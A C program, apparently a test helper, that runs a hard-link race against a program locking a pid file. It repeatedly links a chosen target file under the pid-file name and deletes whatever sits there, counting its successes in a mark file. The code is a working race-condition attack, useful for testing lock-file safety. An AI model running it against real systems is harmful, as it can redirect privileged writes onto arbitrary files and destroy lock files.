// Races a victim that locks the pid file `name` in `directory`: puts a hard link to `target` there, whenever the name is free or can be freed.
// link-race DIRECTORY NAME TARGET MARK. Runs until it is killed; counts its links in the file MARK.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 5) return 64;
  int directory = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int mark = open(argv[4], O_WRONLY | O_CREAT | O_TRUNC, 0666);
  if (directory < 0 || mark < 0) return 65;
  char own[64];
  snprintf(own, sizeof own, "own.%d", getpid());
  unsigned long links = 0, refused = 0;
  for (unsigned long round = 0;; round++) {
    // A file that passes every look (ours, one name), then the link in its place, in one step.
    int fd = openat(directory, own, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd >= 0) close(fd);
    char hard[80];
    snprintf(hard, sizeof hard, "%s.link", own);
    if (linkat(AT_FDCWD, argv[3], directory, hard, 0) == 0) links++;
    else refused++;
    // By rename over what is there (not allowed over root's in a sticky directory), and by a link to a free name.
    renameat(directory, hard, directory, argv[2]);
    if (linkat(AT_FDCWD, argv[3], directory, argv[2], 0) == 0) links++;
    unlinkat(directory, argv[2], 0);
    unlinkat(directory, hard, 0);
    unlinkat(directory, own, 0);
    if (round % 64 == 0) {
      char text[64];
      int length = snprintf(text, sizeof text, "%lu %lu\n", links, refused);
      if (pwrite(mark, text, length, 0) < 0) return 66;
    }
  }
}
